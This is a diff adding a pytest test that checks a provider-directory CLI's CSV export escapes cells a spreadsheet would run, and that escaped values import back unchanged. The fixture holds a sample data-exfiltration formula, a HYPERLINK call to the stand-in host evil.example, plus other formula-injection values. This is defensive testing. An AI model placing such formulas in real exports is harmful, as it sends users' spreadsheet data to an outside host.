@@ -180,3 +180,23 @@ def test_exported_csv_imports_back(runner, session, tmp_path):
     result = runner.invoke(args=["providers", "import", str(out), "--source", "copy"])
     assert "1 added" in result.output, result.output
     assert count(session, "source = 'copy' AND name = 'Round Trip'") == 1
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run(runner, session, tmp_path):
+    session.execute(text("UPDATE providers SET status = 'withdrawn' WHERE status = 'approved'"))
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    make_provider(session, name=formula, credentials="+SUM(1)", practice_name="-2+3",
+                  bio="@cmd", city="\tTab", phone="+1 303-555-0100")
+    out = tmp_path / "out.csv"
+    assert runner.invoke(args=["providers", "export", "-o", str(out)]).exit_code == 0
+    with open(out) as fh:
+        row = next(csv.DictReader(fh))
+    assert row["name"] == "'" + formula
+    assert (row["credentials"], row["practice_name"], row["bio"], row["city"]) == (
+        "'+SUM(1)", "'-2+3", "'@cmd", "'\tTab")
+    assert row["phone"] == "'+1 303-555-0100"
+    assert row["lon"].startswith("-")          # numbers the export writes stay numbers
+    result = runner.invoke(args=["providers", "import", str(out), "--source", "copy"])
+    assert "1 added" in result.output, result.output
+    assert count(session, "source = 'copy' AND phone = '+1 303-555-0100' "
+                          "AND name LIKE '=HYPERLINK%'") == 1
